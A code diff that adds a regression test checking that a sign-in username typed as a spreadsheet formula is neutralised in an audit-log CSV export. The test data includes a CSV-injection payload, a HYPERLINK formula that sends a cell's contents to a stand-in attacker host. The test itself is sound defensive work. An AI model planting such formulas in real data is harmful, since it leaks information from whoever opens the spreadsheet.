@@ -132,3 +132,20 @@ def test_single_sign_on_maps_allowed_emails_to_roles_and_refuses_the_rest():
     assert sso_user({}, allow) is None
     with pytest.raises(AccountError, match="lee@nhs.net"):
         parse_sso_allow_list({"lee@nhs.net": ["boss"]})
+
+
+def test_a_username_typed_as_a_formula_is_harmless_in_the_downloaded_audit_log(session):
+    """Found when this was tried: anyone can type a spreadsheet formula as the username on the sign-in page; the
+    failed sign-in records it, and the administrator's audit-log CSV carried it as a live formula."""
+    import csv
+    import io
+
+    from engagement.audit import audit_csv_bytes, audit_events
+
+    typed = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+    with pytest.raises(SignInError):
+        sign_in(session, typed, "wrong password!", via="test")
+    rows = list(csv.DictReader(io.StringIO(audit_csv_bytes(audit_events(session.get_bind())).decode("utf-8-sig"))))
+    failed = [row for row in rows if row["action"] == "sign_in_failed"]
+    assert failed and all(not row[column].startswith(("=", "+", "-", "@")) for row in failed for column in row)
+    assert failed[0]["actor"] == "'" + typed.lower()
